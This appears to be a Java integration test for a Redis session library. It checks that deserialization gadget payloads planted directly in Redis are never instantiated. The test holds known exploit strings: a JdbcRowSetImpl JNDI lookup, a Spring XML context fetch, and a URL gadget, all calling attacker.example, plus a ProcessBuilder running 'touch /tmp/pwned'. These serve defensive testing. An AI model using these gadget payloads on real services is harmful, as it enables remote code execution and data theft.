package dev.portablesession.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.portablesession.CodecType;
import dev.portablesession.DecodeFailurePolicy;
import dev.portablesession.RedisSessionFilter;
import dev.portablesession.internal.codec.gadget.GadgetProbe;
import dev.portablesession.internal.codec.gadget.SerialGadget;
import dev.portablesession.internal.store.redis.RedisSessionStore;
import dev.portablesession.testing.Browser;
import dev.portablesession.testing.RedisExtension;
import dev.portablesession.testing.RedisServer;
import dev.portablesession.testing.RespClient;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Someone with write access to Redis writes known deserialization gadget payloads straight into a
 * live session's hash (HSET, as an attacker would, not through the codec). Through the filter, on
 * either codec, no gadget is instantiated or read, the request is answered, the attribute reads as
 * absent (the default {@code attribute.decode-failure=drop}) and the rest of the session is intact.
 * The codec-level tests (JsonSecurityTest, JdkAttributeCodecTest) check that the class loader is never
 * even asked; this one checks the whole request path on real Redis.
 */
@ExtendWith(RedisExtension.class)
class GadgetPayloadIT {

    private static final String GADGETS = "dev.portablesession.internal.codec.gadget.";
    private static final String ROWSET = "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\","
            + "\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}";

    @BeforeEach
    void clearProbe() {
        GadgetProbe.EVENTS.clear();
    }

    @Test
    void jsonGadgetsWrittenIntoRedisAreNeverInstantiated(RedisServer redis) {
        Map<String, byte[]> payloads = new LinkedHashMap<>();
        payloads.put("rowset", utf8(ROWSET));
        payloads.put("url", utf8("[\"java.net.URL\",\"http://attacker.example/\"]"));
        payloads.put("process", utf8("{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"java.util.ArrayList\",[\"touch\",\"/tmp/pwned\"]]}"));
        payloads.put("spring", utf8("[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://attacker.example/x.xml\"]"));
        payloads.put("nested", utf8("[\"java.util.ArrayList\",[\"harmless\"," + ROWSET + "]]"));
        payloads.put("own", utf8("{\"@class\":\"" + GADGETS + "JsonGadget\",\"command\":\"calc\"}"));
        payloads.put("jdk-bytes", serialized(new SerialGadget()));
        attack(redis, "it-gadget-json", CodecType.JSON, payloads);
    }

    @Test
    void jdkGadgetsWrittenIntoRedisAreNeverRead(RedisServer redis) {
        Map<String, byte[]> payloads = new LinkedHashMap<>();
        payloads.put("gadget", serialized(new SerialGadget()));
        payloads.put("in-list", serialized(new ArrayList<>(List.of("x", new SerialGadget()))));
        payloads.put("as-key", serialized(new HashMap<>(Map.of(new SerialGadget(), 1))));
        payloads.put("array", serialized(new Serializable[] {new SerialGadget()}));
        payloads.put("json-text", utf8("{\"@class\":\"" + GADGETS + "JsonGadget\",\"command\":\"calc\"}"));
        attack(redis, "it-gadget-jdk", CodecType.JDK, payloads);
    }

    private static void attack(RedisServer redis, String namespace, CodecType codec, Map<String, byte[]> payloads) {
        RedisSessionFilter.Builder builder = RedisSessionFilter.builder().redisUrl(redis.uri()).namespace(namespace)
                .codec(codec).attributeDecodeFailure(DecodeFailurePolicy.DROP);
        try (JettyNode a = JettyNode.start("a", builder.build()); JettyNode b = JettyNode.start("b", builder.build());
                RespClient raw = RespClient.connectTo(redis)) {
            Browser browser = new Browser(a.root(), b.root());
            assertEquals(200, browser.get("/s?op=set&name=user&value=alice").status());
            String key = RedisSessionStore.key(namespace, browser.cookie());
            for (Map.Entry<String, byte[]> payload : payloads.entrySet()) {
                raw.command(utf8("HSET"), utf8(key), utf8("a:" + payload.getKey()), payload.getValue());
            }

            for (String name : payloads.keySet()) {
                Browser.Response read = browser.get("/s?op=get&name=" + name);
                assertEquals(200, read.status(), name);
                assertEquals("null", read.body(), name);
            }
            Browser.Response info = browser.get("/s?op=info");
            assertTrue(info.body().matches(".*names=(.*,)?user(,.*)?"), info.body());
            assertEquals("alice", browser.get("/s?op=get&name=user").body());
            assertEquals(200, browser.get("/s?op=set&name=user&value=bob").status());
            assertEquals("bob", browser.get("/s?op=get&name=user").body());
            assertEquals(List.of(), GadgetProbe.EVENTS, "a gadget ran");
            // drop leaves the stored values alone: nothing the attacker wrote was rewritten by us
            Map<String, byte[]> stored = raw.hgetall(key);
            for (Map.Entry<String, byte[]> payload : payloads.entrySet()) {
                assertEquals(new String(payload.getValue(), StandardCharsets.ISO_8859_1),
                        new String(stored.get("a:" + payload.getKey()), StandardCharsets.ISO_8859_1), payload.getKey());
            }
        }
    }

    private static byte[] serialized(Object value) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(value);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
